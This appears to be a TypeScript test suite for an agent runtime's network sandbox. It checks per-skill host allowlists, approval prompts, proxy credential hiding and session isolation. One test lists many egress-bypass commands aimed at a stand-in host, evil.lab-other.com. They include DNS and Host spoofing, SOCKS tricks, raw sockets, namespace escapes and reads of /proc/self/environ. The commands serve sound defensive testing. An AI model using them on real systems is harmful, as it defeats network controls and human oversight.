/** Runs where real host names lead to stand-in servers: see internet.sh. The outer test is internet.test.ts. */
import assert from 'node:assert/strict'
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import type { JsonObject } from '../../../../src/kernel/index.ts'
import type { Ran } from '../nexus.ts'
import { inTerminal } from '../terminal.ts'
import { FIXTURES, skillText } from './fixtures.ts'
import { has, LAB, lineIn, openAt, place, requests, run } from './rig.ts'
import './masked.ts'
import './needs.ts'

/** All of them with NEXUS_LAB_ALL, else the one that goes several ways. */
const CHOSEN = process.env['NEXUS_LAB_ALL'] ? FIXTURES : FIXTURES.filter(({ name }) => name === 'several-ways')

for (const fixture of CHOSEN)
  test(
    `${fixture.name} works with the line that check proposes`,
    { skip: !has(fixture.needs) && 'not installed' },
    async (t) => {
      const at = place(t, fixture)
      const before = await run(at, fixture.name, fixture.command)
      assert.match(before.stderr, /To allow it, add \S+ to skills\.entries\.|host|network|wrote nothing/i)
      assert.doesNotMatch(requests(), fixture.asked)
      const line = lineIn((await at.run(['skills', 'check', fixture.name, '--trust'])).stdout)
      assert.ok(line, 'no line')
      at.settings(`${line}\n`)
      const after = await run(at, fixture.name, fixture.command)
      assert.equal(after.code, 0, after.stderr)
      assert.match(requests(), fixture.asked)
    },
  )

test('a declared need holds the skill until its line is written; then another host is refused and named', async (t) => {
  const fixture = FIXTURES[0]!
  const at = place(
    t,
    fixture,
    'metadata: { nexus: { requires: { network: [api.lab-weather.com], env: [K] }, primaryEnv: K } }',
  )
  at.settings(`skills: { entries: { ${fixture.name}: { apiKey: secret-value-77 } } }\n`)
  const held = await run(at, fixture.name, fixture.command)
  assert.match(held.stderr, /is held: network not allowed: api\.lab-weather\.com/)
  const line = lineIn((await at.run(['skills', 'check', fixture.name, '--trust'])).stdout)
  assert.equal(line, `skills: { entries: { ${fixture.name}: { network: [api.lab-weather.com] } } }`)
  at.settings(line.replace('{ network', '{ apiKey: secret-value-77, network'))
  const got = await run(
    at,
    fixture.name,
    'curl -sS -H "Authorization: $K" https://api.lab-weather.com/keyed; curl -sS https://evil.lab-other.com/',
    '--json',
  )
  const { data } = JSON.parse(got.stdout) as {
    data: {
      stdout: string
      notes: string[]
      hosts: { reached: { host: string; received_bytes: number }[]; refused: { host: string }[] }
    }
  }
  assert.match(data.stdout, /"path":"\/keyed"/)
  assert.match(requests(), /\/keyed secret-value-77/)
  assert.ok(
    data.notes.some((note) =>
      /Nexus refused evil\.lab-other\.com port 443: .*skills\.entries\.curl-get\.network/.test(note),
    ),
    data.notes.join(),
  )
  assert.equal(data.hosts.reached[0]?.host, 'api.lab-weather.com')
  assert.ok((data.hosts.reached[0]?.received_bytes ?? 0) > 500)
  assert.equal(data.hosts.refused[0]?.host, 'evil.lab-other.com')
  assert.doesNotMatch(requests(), /140\.82\.112\.78/)
})

test('a person answers "always" at the prompt, and it holds in the next session, where nobody is asked', async (t) => {
  const fixture = FIXTURES[0]!
  const at = place(t, fixture)
  const args = ['skills', 'run', fixture.name, '--trust', '--', 'curl -sS https://api.lab-weather.com/asked']
  const { screen, code } = await inTerminal(at, args, {
    prompt: /reach api\.lab-weather\.com port 443\? \[y: once/,
    keys: 'a\r',
  })
  assert.equal(code, 0, screen)
  const later = await run(at, fixture.name, 'curl -sS https://api.lab-weather.com/later')
  assert.equal(later.code, 0, later.stderr)
  assert.match(requests(), /\/asked[\s\S]*\/later/)
  assert.match(
    (await at.run(['approvals', 'list'])).stdout,
    /network\.connect.*exactly:\s+\| api\.lab-weather\.com:443/s,
  )
  // Another revision of the skill is another one.
  writeFileSync(join(at.workspace, 'skills', fixture.name, 'more.txt'), 'changed')
  assert.notEqual((await run(at, fixture.name, 'curl -sS https://api.lab-weather.com/other')).code, 0)
})

test('no way out leads to a host that is not allowed', async (t) => {
  const fixture = FIXTURES[0]!
  const at = place(t, fixture)
  at.settings(
    `execution: { network: { deniedDomains: [github.com] } }\nskills: { entries: { ${fixture.name}: { network: [api.lab-weather.com, inside.lab-weather.com, github.com] } } }\n`,
  )
  const evil = 'https://evil.lab-other.com/out'
  const tries = [
    `curl -sS -m 5 ${evil}`,
    `curl -sS -m 5 --noproxy '*' ${evil}`,
    `curl -sS -m 5 --noproxy '*' -k --resolve evil.lab-other.com:443:140.82.112.78 ${evil}`,
    'curl -sS -m 5 --noproxy "*" http://140.82.112.78/out',
    'curl -sS -m 5 http://140.82.112.78/out',
    'curl -sS -m 5 http://[::ffff:140.82.112.78]/out',
    'curl -sS -m 5 -k https://140.82.112.78/out',
    'env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY curl -sS -m 5 https://evil.lab-other.com/out',
    `curl -sS -m 5 -k --connect-to evil.lab-other.com:443:api.lab-weather.com:443 ${evil}`,
    'curl -sS -m 5 -k -H "Host: evil.lab-other.com" http://api.lab-weather.com/hosthdr',
    'curl -sS -m 5 -x socks5h://127.0.0.1:19080 https://evil.lab-other.com/out',
    'curl -sS -m 5 -x socks5://127.0.0.1:19080 --resolve evil.lab-other.com:443:140.82.112.78 -k https://evil.lab-other.com/out',
    'curl -sS -m 5 https://inside.lab-weather.com/out; curl -sS -m 5 http://inside.lab-weather.com/out',
    'curl -sS -m 5 -L https://api.lab-weather.com/to-private; curl -sS -m 5 -L https://api.lab-weather.com/to-evil',
    'curl -sS -m 5 telnet://api.lab-weather.com:2222; curl -sS -m 5 -p -x http://127.0.0.1:19080 telnet://api.lab-weather.com:2222',
    'curl -sS -m 5 https://github.com/out',
    'curl -sS -m 5 http://10.77.0.2/out; curl -sS -m 5 http://localhost/out; curl -sS -m 5 http://127.0.0.1:80/out',
    "python3 -c \"import socket; s=socket.create_connection(('140.82.112.78',80),3); s.send(b'GET /out HTTP/1.0\\r\\n\\r\\n')\"",
    'python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(\'/run/nexus/egress\')"',
    "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('140.82.112.78', 53))\"",
    'unshare -Urn true; nsenter -t 1 -n true; ls /tmp/nexus* /var/lib/nexus',
  ]
  const script = tries.map((line) => `{ ${line}; } 2>&1 | head -c 300`).join('\n')
  const { stdout } = await run(at, fixture.name, script, '--timeout', '100')
  const noted = requests()
  assert.doesNotMatch(noted, /140\.82\.112\.78|10\.77\.0\.2|\/out|\/secret| raw/, stdout)
  // The Host of a plain request is that of its address.
  assert.match(noted, /- GET api\.lab-weather\.com \/hosthdr/)
})

test('--no-network closes what settings open, and --network opens one host for one run', async (t) => {
  const fixture = FIXTURES[0]!
  const at = place(t, fixture)
  at.settings('execution: { network: { allowedDomains: [api.lab-weather.com] } }\n')
  assert.notEqual((await run(at, fixture.name, 'curl -sS https://api.lab-weather.com/closed', '--no-network')).code, 0)
  assert.equal(
    (await run(at, fixture.name, 'curl -sS https://api.github.com/once', '--network', 'api.github.com')).code,
    0,
  )
  assert.notEqual((await run(at, fixture.name, 'curl -sS https://api.github.com/again')).code, 0)
  assert.doesNotMatch(requests(), /\/closed|\/again/)
})

test('the proxy of the user is the way to hosts, with its credentials, and no command sees them', async (t) => {
  const fixture = FIXTURES[0]!
  const at = place(t, fixture)
  at.settings('execution: { network: { allowedDomains: [api.lab-weather.com, api.github.com] } }\n')
  const through = (proxy: string, command: string): Promise<Ran> =>
    at.run(['skills', 'run', fixture.name, '--trust', '--json', '--', command], {
      env: {
        HTTPS_PROXY: proxy,
        HTTP_PROXY: proxy,
        NO_PROXY: 'api.github.com',
        NODE_EXTRA_CA_CERTS: join(LAB, 'cert.pem'),
        SSL_CERT_FILE: '',
      },
    })
  const proxy = 'http://ada:s3cret%4077@10.77.0.2:3128'
  const command = [
    'curl -sS https://api.lab-weather.com/forwarded http://api.lab-weather.com/forwarded-plain https://api.github.com/direct',
    'curl -sS -m 5 -x http://10.77.0.2:3128 https://api.lab-weather.com/by-itself',
    'env; cat /proc/self/environ',
  ].join('; ')
  const ran = await through(proxy, command)
  const noted = requests()
  assert.match(noted, /forward 140\.82\.112\.77:443 ada:s3cret@77\n[\s\S]*\/forwarded /)
  assert.match(noted, /forward 140\.82\.112\.77:80 ada:s3cret@77\n[\s\S]*\/forwarded-plain /)
  assert.equal(noted.match(/^forward .*:443 /gm)?.length, 1, 'NO_PROXY names a host')
  assert.match(noted, /\/direct /)
  assert.doesNotMatch(noted, /by-itself/)
  const { data } = JSON.parse(ran.stdout) as { data: { hosts: { reached: { host: string }[] } } }
  assert.ok(data.hosts.reached.some(({ host }) => host === 'api.lab-weather.com'))
  const refused = await through(proxy.replace('s3cret', 'wrong'), 'curl -sS https://api.lab-weather.com/never')
  assert.match(refused.stdout, /The proxy did not connect Nexus to .*407/)
  assert.doesNotMatch(requests(), /\/never/)
  const words = /s3cret|wrong%|wrong@|YWRhOn/
  for (const text of [ran.stdout, ran.stderr, refused.stdout, refused.stderr]) assert.doesNotMatch(text, words)
  for (const file of readdirSync(at.home, { recursive: true, withFileTypes: true }).filter((each) => each.isFile()))
    assert.doesNotMatch(readFileSync(join(file.parentPath, file.name), 'latin1'), words, file.name)
})

test('two skills of one session share the hosts of both, and no command the way of another', async (t) => {
  const [one, two] = [FIXTURES[0]!, FIXTURES[1]!]
  const at = place(t, one)
  const other = join(at.workspace, 'skills', two.name)
  mkdirSync(other, { recursive: true })
  writeFileSync(join(other, 'SKILL.md'), skillText(two))
  at.settings(
    `skills: { entries: { ${one.name}: { network: [api.lab-weather.com] }, ${two.name}: { network: [api.github.com] } } }\n`,
  )
  const both = (tag: string): string =>
    `curl -sS https://api.lab-weather.com/${tag}-one; curl -sS https://api.github.com/${tag}-two; curl -sS https://evil.lab-other.com/${tag}`
  const local = await openAt(t, at)
  const open = (sessionId: string) => local.runtime.openAgent({ sessionId })
  const call = (sessionId: string, tool: string, args: JsonObject) => open(sessionId).call({ tool, arguments: args })
  for (const skill of [one, two]) await call('both', 'load_skill', { skill_name: skill.name })
  await call('first', 'load_skill', { skill_name: one.name })
  await call('second', 'load_skill', { skill_name: two.name })
  // At the same time, so that each could find what is there of the other.
  const look =
    'for n in 1 2 3; do find / -xdev -type s 2>/dev/null; sleep 0.2; done; ls /run/nexus /proc/*/root/run/nexus; cat /proc/net/unix'
  const python = `python3 - <<'END'\nimport glob, socket\nfor path in glob.glob('/run/nexus/*') + glob.glob('/tmp/**/egress*', recursive=True) + glob.glob('/var/lib/nexus/**/egress*', recursive=True) + ['\\0egress']:\n  s = None\n  try:\n    s = socket.socket(socket.AF_UNIX); s.connect(path); s.send(b'CONNECT api.github.com:443 HTTP/1.1\\r\\n\\r\\n'); print('OPEN', path, s.recv(99))\n  except Exception as e: print('closed', path, e)\nEND`
  const [, first] = await Promise.all([
    call('second', 'run_command', { command: `${both('second')}; sleep 2` }),
    call('first', 'run_command', { command: `${both('first')}; ${look}; ${python}` }),
    call('both', 'run_command', { command: both('both') }),
  ])
  const noted = requests()
  for (const reached of ['/both-one', '/both-two', '/first-one', '/second-two'])
    assert.ok(noted.includes(`${reached} `), `${reached}\n${noted}`)
  for (const closed of ['/first-two', '/second-one', '/first ', '/second ', '/both ', '140.82.112.78'])
    assert.ok(!noted.includes(closed), closed)
  const text = JSON.stringify(first.outcome)
  assert.match(text, /closed \/run\/nexus\/egress/)
  assert.doesNotMatch(text, /OPEN/)
  assert.equal(new Set(text.match(/\/[\w/.-]*egress[\w-]*/g)).size <= 1, true, text)
})
